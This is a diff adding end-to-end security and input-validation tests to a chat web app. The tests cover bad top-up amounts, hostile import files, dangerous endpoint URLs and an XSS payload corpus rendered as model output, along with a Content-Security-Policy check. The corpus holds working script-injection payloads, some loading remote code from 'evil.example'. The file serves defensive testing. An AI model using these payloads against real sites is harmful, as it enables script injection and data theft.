@@ -6,7 +6,6 @@
 // these cases; the last test keeps the two the same.
 import { test, before, after, beforeEach } from 'node:test';
 import assert from 'node:assert/strict';
-import { randomBytes } from 'node:crypto';
 import { mkdir, readFile, writeFile } from 'node:fs/promises';
 import { join, resolve } from 'node:path';
 import { startMockProvider } from '../tests/mock-provider/server.mjs';
@@ -324,5 +323,290 @@ test(row('storage', 'a newer version opened in another tab is not blocked by thi
   const after = await dumpDb(newer);
   for (const store of ['users', 'payments', 'threads', 'messages', 'settings']) assert.deepEqual(after[store], before[store]);
   await assertClean(page, problems);
+  await context.close();
+});
+
+// ------------------------------------------------------------------ bad input
+
+const HINT = 'Type a whole number from 1 to 1,000,000,000,000, like 残高を加える 5000.';
+
+/** Typed top-ups: the answer under the thread, and the tokens it adds (0: none, nothing stored). */
+const TOP_UPS = [
+  ['/topup 0', `“0” is less than 1 token. ${HINT}`, 0],
+  ['/topup -5', `“-5” is less than 1 token. ${HINT}`, 0],
+  ['/topup abc', `“abc” is not a whole number of tokens. ${HINT}`, 0],
+  ['/topup 1.5', `“1.5” is not a whole number of tokens. ${HINT}`, 0],
+  ['/topup 99999999999999999999', `“99999999999999999999” is more than 1,000,000,000,000 tokens. ${HINT}`, 0],
+  ['残高を加える １０００', 'Added 1,000 tokens. Balance: 1,100 tokens.', 1000],
+];
+for (const [typed, answer, adds] of TOP_UPS) {
+  // Guards against a nonsense amount reaching the ledger, a refusal without a sentence, and
+  // full-width digits (a Japanese IME's default) being refused.
+  test(row('input', `top-up “${typed}”`), async () => {
+    const { page, context, problems } = await open();
+    const before = await dumpDb(page);
+    await say(page, typed);
+    await waitText(page.getByTestId('note-answer').last(), answer);
+    const after = adds ? await dbUntil(page, (d) => d.payments.length === 2, 'the top-up') : await dumpDb(page);
+    if (adds) {
+      assertPriorKept(before, after);
+      assert.deepEqual(after.payments.at(-1).charged_token, adds);
+      await waitText(balance(page), `${(100 + adds).toLocaleString('en-US')} tokens`);
+    } else {
+      assert.deepEqual(after, before);
+    }
+    assert.deepEqual(ledgerProblems(after), []);
+    await assertClean(page, problems);
+    await context.close();
+  });
+}
+
+// Guards against an amount paid that is not a number being stored in a payment.
+test(row('input', 'top-up form: amount paid “abc”'), async () => {
+  const { page, context, problems } = await open();
+  const before = await dumpDb(page);
+  await say(page, '/topup');
+  await page.getByTestId('top-up-tokens').fill('100');
+  await page.getByTestId('top-up-amount').fill('abc');
+  await page.getByTestId('top-up-submit').click();
+  await waitText(page.getByTestId('top-up-problem'), 'The amount paid must be a number of 0 or more, or left empty.');
+  assert.equal(await page.getByTestId('top-up-amount').inputValue(), 'abc');
+  assert.deepEqual(await dumpDb(page), before);
+  await assertClean(page, problems);
+  await context.close();
+});
+
+// Guards against empty or blank messages being sent, stored or charged.
+test(row('input', 'empty and whitespace-only messages'), async () => {
+  const { page, context, problems } = await withHistory();
+  const before = await dumpDb(page);
+  for (const blank of ['', '   ', '\n\n\t ']) {
+    await input(page).fill(blank);
+    assert.equal(await page.getByTestId('send-button').isDisabled(), true);
+    await input(page).press('Enter');
+    assert.equal(await input(page).inputValue(), blank);
+  }
+  assert.deepEqual(await dumpDb(page), before);
+  assert.equal(mock.requests.filter((r) => r.kind === 'openai').length, 1);
+  await assertClean(page, problems);
+  await context.close();
+});
+
+// Guards against a huge paste being sent (and charged) when no model takes it, or the
+// paste being lost from the box when it is refused.
+test(row('input', 'a 1 MB paste'), async () => {
+  const { page, context, problems, before } = await withHistory();
+  const paste = 'lorem ipsum dolor sit amet '.repeat(40_000).slice(0, 1024 * 1024);
+  await input(page).fill(paste);
+  await input(page).press('Enter');
+  await waitText(notice(page), /^This message is too long for gpt-4o-mini \(about [\d,]+ tokens; the model takes [\d,]+ besides its reply\)\. Shorten it or split it\.$/);
+  assert.equal((await input(page).inputValue()).length, paste.length);
+  assert.deepEqual(await dumpDb(page), before);
+  assert.equal(mock.requests.filter((r) => r.kind === 'openai').length, 1, 'nothing was sent');
+  await assertClean(page, problems);
+  await context.close();
+});
+
+// Guards against control characters or a lone surrogate crashing the page, breaking the
+// request body, or being stored as something else than what was sent.
+test(row('input', 'control characters and a lone surrogate'), async () => {
+  const { page, context, problems, before } = await withHistory();
+  const typed = 'bell\u0007 esc\u001b[31m nul\u0000 del\u007f rtl\u202e lone\ud800 end';
+  await say(page, typed);
+  const after = await dbUntil(page, (d) => d.messages.length === 2 && d.messages[1].status === 'complete', 'the exchange');
+  const [req] = mock.requests.filter((r) => r.kind === 'openai').slice(-1);
+  // What the box holds (a textarea may normalise some characters), with the lone surrogate,
+  // which is not Unicode, as U+FFFD (the replacement character).
+  const boxed = await page.evaluate((t) => { const el = document.createElement('textarea'); el.value = t; return el.value; }, typed);
+  const want = boxed.replace('\ud800', '\ufffd');
+  assert.ok(want.includes('\u0007') && want.includes('\u202e') && want.includes('\ufffd'), JSON.stringify(want));
+  assert.equal(req.body.messages.at(-1).content, want);
+  assert.equal(after.messages[1].prompt, want);
+  assert.equal(after.messages[1].completion, `Echo: ${want}`);
+  assertPriorKept(before, after);
+  assert.deepEqual(ledgerProblems(after), []);
+  await assertClean(page, problems);
+  await context.close();
+});
+
+const BAD_URLS = ['not a url', 'ftp://example.com', 'javascript:alert(1)', 'file:///etc/passwd', 'http://', 'https://user:pw@example.com'];
+for (const url of BAD_URLS) {
+  // Guards against saving an endpoint the app could never call (or one that runs script).
+  test(row('input', `endpoint URL “${url}”`), async () => {
+    const { page, context, problems } = await open();
+    const before = await dumpDb(page);
+    await page.getByTestId('settings-button').click();
+    await page.getByTestId('api-key').fill('sk-test');
+    await page.getByTestId('base-url').fill(url);
+    await page.getByTestId('save-settings').click();
+    await waitText(page.getByTestId('settings-result'), `“${url}” is not a web address. Enter one that starts with https:// (or http:// for a server on this computer).`);
+    assert.deepEqual(await dumpDb(page), before);
+    assert.equal(await page.getByTestId('notice').count(), 0, 'nothing said "saved"');
+    await assertClean(page, problems);
+    await context.close();
+  });
+}
+
+/** `n` bytes of noise, the same on every run (a linear congruential generator). */
+function noise(n) {
+  const bytes = Buffer.alloc(n);
+  let x = 12345;
+  for (let i = 0; i < n; i++) {
+    x = (x * 1103515245 + 12345) % 2 ** 31;
+    bytes[i] = x >> 16;
+  }
+  return bytes;
+}
+
+const BAD_FILES = [
+  ['random bytes', noise(4096), /^This file is not valid JSON \(line \d+, column \d+\); it may be cut short\. Nothing was imported\.$/],
+  ['a JSON array', '[1,2,3]', 'This file is not a pocket-chat export. Nothing was imported.'],
+  ['a balance minted without payments', JSON.stringify({
+    format: 'pocket-chat-export', version: 1, exported_at: 0,
+    users: [{ user_id: 'mallory', display_name: 'M', num_token: 1000000, is_charged_once: true, model: 'gpt-4o', models: ['gpt-4o', 'gpt-4o-mini'], created_at: 0, updated_at: 0 }],
+    payments: [], threads: [], messages: [], settings: [],
+  }), 'This export is damaged: user mallory has a balance of 1000000 tokens but a history that gives 0. Nothing was imported.'],
+  ['a message in another user’s thread', JSON.stringify({
+    format: 'pocket-chat-export', version: 1, exported_at: 0,
+    users: [{ user_id: 'a', display_name: 'A', num_token: 100, is_charged_once: false, model: 'm', models: ['m', 'n'], created_at: 0, updated_at: 0 }],
+    payments: [{ payment_id: 1, user_id: 'a', amount: 0, charged_token: 100, created_at: 0 }],
+    threads: [], messages: [{ message_id: 1, thread_id: 99, user_id: 'a', prompt: 'p', completion: 'c', total: 0, prompt_tokens: 0, completion_tokens: 0, debit_kind: 'exact', model: 'm', status: 'complete', created_at: 0 }],
+    settings: [],
+  }), /^This export is damaged: message 1 belongs to thread 99, which is not in the file or belongs to another user\. Nothing was imported\.$/],
+];
+for (const [what, content, sentence] of BAD_FILES) {
+  // Guards against a bad or hostile file changing anything, or failing without a sentence.
+  test(row('input', `import file: ${what}`), async () => {
+    const { page, context, problems } = await open();
+    const before = await dumpDb(page);
+    const file = join(SCREENSHOTS, '..', `import-${what.replace(/\W+/g, '-')}.json`);
+    await writeFile(file, content);
+    await page.getByTestId('data-button').click();
+    await page.getByTestId('import-file').setInputFiles(file);
+    await waitText(notice(page), sentence);
+    assert.equal(await page.getByTestId('import-confirm').count(), 0);
+    assert.deepEqual(await dumpDb(page), before);
+    await assertClean(page, problems);
+    await context.close();
+  });
+}
+
+// ------------------------------------------------------------------ untrusted model output
+
+/** Each payload, if it worked, would set window.__pwned, open a dialog or load evil.example. */
+const XSS = [
+  '<script>window.__pwned=1</script>',
+  '<script src="https://evil.example/x.js"></script>',
+  '<img src=x onerror="window.__pwned=2">',
+  '<img src="https://evil.example/p.png">',
+  '<svg onload="window.__pwned=3"><circle r="1"/></svg>',
+  '<svg><script>window.__pwned=4</script></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=5">',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>',
+  '<object data="https://evil.example/x.swf"></object>',
+  '<embed src="https://evil.example/x.swf">',
+  '<a href="javascript:window.__pwned=7">click</a>',
+  '<a href="JaVaScRiPt:alert(8)">click</a>',
+  '[md link](javascript:window.__pwned=9)',
+  '[md link spaced](  javascript:alert(10)  )',
+  '[entity link](&#106;avascript:window.__pwned=11)',
+  '[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xMzwvc2NyaXB0Pg==)',
+  '[vbscript link](vbscript:msgbox(14))',
+  '![image](https://evil.example/track.png)',
+  '![image quote](x" onerror="window.__pwned=15)',
+  '![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
+  '[ref link][r]\n\n[r]: javascript:window.__pwned=16',
+  '<javascript:window.__pwned=17>',
+  '<details open ontoggle="window.__pwned=18">x</details>',
+  '<body onload="window.__pwned=19">',
+  '<input autofocus onfocus="window.__pwned=20">',
+  '<video src=x onerror="window.__pwned=21"></video>',
+  '<audio src=x onerror="alert(22)"></audio>',
+  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/bg.png)}</style>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example/"><button>go</button></form>',
+  '<div style="background:url(https://evil.example/bg.png)">styled</div>',
+  '&lt;script&gt;window.__pwned=23&lt;/script&gt;',
+  '&#60;img src=x onerror=window.__pwned=24&#62;',
+  '`<script>window.__pwned=25</script>` in code',
+  '```html\n<script>window.__pwned=26</script>\n```',
+  '<scr<script>ipt>window.__pwned=27</scr</script>ipt>',
+  '<a href="https://ok.example/" onclick="window.__pwned=28">ok</a>',
+  '"><script>window.__pwned=29</script>',
+  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=30>">',
+  '<template><script>window.__pwned=31</script></template>',
+  '<isindex type=image src=1 onerror=alert(32)>',
+];
+
+/** Whatever in `reply` could run script or load something. */
+function activeContent(root) {
+  const found = [];
+  for (const el of root.querySelectorAll('*')) {
+    const tag = el.tagName.toLowerCase();
+    if (['script', 'iframe', 'object', 'embed', 'img', 'svg', 'math', 'style', 'link', 'meta', 'base', 'form', 'input', 'video', 'audio', 'template', 'details', 'body', 'noscript'].includes(tag)) found.push(`<${tag}>`);
+    for (const a of el.attributes) {
+      if (/^on/i.test(a.name) || a.name === 'style' || a.name === 'srcdoc' || a.name === 'src') found.push(`${tag}[${a.name}]`);
+      if (a.name === 'href' && !/^https?:\/\//i.test(a.value)) found.push(`${tag}[href=${a.value}]`);
+    }
+  }
+  return found;
+}
+
+// Guards against model output running script, opening a dialog or loading anything.
+test(row('output', `XSS corpus of ${XSS.length} payloads as a model reply`), async () => {
+  const { page, context, problems } = await withHistory();
+  await say(page, XSS.join('\n\n'));
+  const reply = page.getByTestId('reply').last();
+  await waitText(reply, /^Echo: <script>window\.__pwned=1<\/script>/);
+  assert.deepEqual(await reply.evaluate(activeContent), []);
+  // Rendered again from storage, as after a reload.
+  await page.reload();
+  await waitText(page.getByTestId('reply').last(), /window\.__pwned=31/);
+  assert.deepEqual(await page.getByTestId('reply').last().evaluate(activeContent), []);
+  await page.screenshot({ path: join(SCREENSHOTS, 'fault-xss-corpus.png'), fullPage: true });
+  await assertClean(page, problems);
+  await context.close();
+});
+
+// ------------------------------------------------------------------ Content-Security-Policy
+
+const CSP = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; object-src 'none'; base-uri 'self'; form-action 'none'; frame-src 'none'; connect-src 'self' http: https:; img-src 'self' data:; style-src 'self' 'unsafe-inline'";
+
+// Guards against a build without the policy, a loader left inline (the app would not start
+// under the policy), a policy the app breaks while it loads and chats, and a policy that
+// lets injected script run.
+test(row('output', 'Content-Security-Policy: in every build, no violations, inline script blocked'), async () => {
+  for (const dir of [DIST, DIST_E2E, join(ROOT, 'target/dist-subpath')]) {
+    const html = await readFile(join(dir, 'index.html'), 'utf8').catch(() => null);
+    if (html === null && dir !== DIST_E2E) continue; // a targeted run may not have built it
+    const metas = [...html.matchAll(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/g)].map((m) => m[1]);
+    assert.deepEqual(metas, [CSP], `${dir}/index.html`);
+    const inline = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)].filter((m) => !/\bsrc=/.test(m[1]) || m[2].trim());
+    assert.deepEqual(inline.map((m) => m[0]), [], `${dir}/index.html has inline script`);
+  }
+  const { page, context, problems } = await withHistory();
+  // The app loaded and chatted (withHistory); now someone injects script into the page.
+  await page.evaluate(() => {
+    const s = document.createElement('script');
+    s.textContent = 'window.__pwned = "inline"';
+    document.head.append(s);
+    // A string run as code later, outside this evaluation (which DevTools lets eval).
+    setTimeout('window.__pwned = "eval"', 0);
+  });
+  let flags;
+  const deadline = Date.now() + 10_000;
+  do {
+    flags = await page.evaluate(() => ({ pwned: window.__pwned ?? null, violations: window.__violations ?? [] }));
+    if (flags.violations.length >= 2) break;
+    await page.waitForTimeout(25);
+  } while (Date.now() < deadline);
+  assert.equal(flags.pwned, null);
+  assert.deepEqual(flags.violations.map((v) => v.split(' ')[1]).sort(), ['eval', 'inline']);
+  // The two blocked attempts are the only complaints.
+  assert.equal(problems.filter((p) => /violates the following Content Security Policy/.test(p)).length, 2);
+  assert.deepEqual(problems.filter((p) => !/violates the following Content Security Policy/.test(p)), []);
   await context.close();
 });
